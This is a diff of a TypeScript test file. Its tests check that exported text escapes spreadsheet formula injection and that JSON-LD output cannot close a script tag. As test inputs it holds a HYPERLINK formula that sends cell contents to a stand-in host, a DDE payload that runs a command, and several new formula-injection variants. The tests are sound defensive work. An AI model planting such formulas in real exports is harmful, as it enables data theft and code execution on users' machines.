@@ -98,6 +98,8 @@ test("plain text gives a spreadsheet no formula, and JSON-LD ends no script", ()
   const firstLine = (title: string) => textFormat.render(titled(title), circumstance).split("\n")[0];
   expect(firstLine('=HYPERLINK("https://orlan.example?"&A1)')).toBe(`'=HYPERLINK("https://orlan.example?"&A1)`);
   expect(firstLine("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
+  for (const formula of ["= A2&A3", '"=A2"', "+ HYPERLINK(A1)", `-${"1".repeat(99)}*0+HYPERLINK(A1)`, "@SUM(A1)"])
+    expect(firstLine(formula)).toBe(`'${formula}`);
   expect(firstLine("-12 degrees: Orlan freezes (again)")).toBe("-12 degrees: Orlan freezes (again)");
   const json = jsonLdFormat.render(titled("</script><!-- Orlan"), circumstance);
   expect(json).not.toContain("<");
